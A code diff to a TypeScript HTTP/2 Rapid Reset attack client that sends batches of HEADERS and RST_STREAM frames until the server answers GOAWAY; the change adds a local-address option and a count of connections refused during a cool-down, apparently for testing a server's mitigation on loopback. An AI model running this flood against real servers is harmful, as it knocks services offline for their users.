@@ -20,12 +20,16 @@ export interface RapidResetOptions {
   maxSessions?: number;
   /** Streams opened after each batch's resets in the same write, and left open (default 0). */
   openAfter?: number;
+  /** The local address to connect from (e.g. 127.0.0.2, so a cool-down of the attacker's address spares a client on 127.0.0.1). */
+  localAddress?: string;
   /** Called when a connection is up, before its first write. */
   onSession?: () => void;
 }
 
 export interface RapidResetStats {
   sessions: number;
+  /** Connections closed before their TLS handshake finished (refused at accept during a cool-down). */
+  refused: number;
   /** HEADERS + RST_STREAM pairs written. */
   streams: number;
   /** The error code of every GOAWAY received. */
@@ -92,7 +96,7 @@ export function openStreams(block: Buffer, firstId: number, count: number): Buff
 /** One connection: the preface, then batches of reset streams until GOAWAY, close, or `running()` turns false. */
 async function oneSession(options: RapidResetOptions, running: () => boolean, stats: RapidResetStats): Promise<void> {
   const target = new URL(options.url);
-  const socket: TLSSocket = connect({ host: target.hostname, port: Number(target.port), ca: options.ca, ALPNProtocols: ['h2'] });
+  const socket: TLSSocket = connect({ host: target.hostname, port: Number(target.port), ca: options.ca, ALPNProtocols: ['h2'], ...(options.localAddress ? { localAddress: options.localAddress } : {}) });
   let over = false;
   let inbox = Buffer.alloc(0);
   socket.on('error', () => {});
@@ -112,7 +116,10 @@ async function oneSession(options: RapidResetOptions, running: () => boolean, st
     }
   });
   await new Promise<void>((go) => socket.once('secureConnect', () => go()).once('close', () => go()));
-  if (over) return;
+  if (over) {
+    stats.refused++;
+    return;
+  }
   stats.sessions++;
   options.onSession?.();
   socket.write(Buffer.concat([PREFACE, frameHeader(0, FRAME.settings, 0, 0)]));
@@ -135,7 +142,7 @@ async function oneSession(options: RapidResetOptions, running: () => boolean, st
 
 /** Attacks until `running()` turns false (or `maxSessions` connections were used); what it sent and received. */
 export async function rapidReset(options: RapidResetOptions, running: () => boolean): Promise<RapidResetStats> {
-  const stats: RapidResetStats = { sessions: 0, streams: 0, goaways: [] };
+  const stats: RapidResetStats = { sessions: 0, refused: 0, streams: 0, goaways: [] };
   let tries = 0;
   while (running() && (options.maxSessions === undefined || tries < options.maxSessions)) {
     tries++;
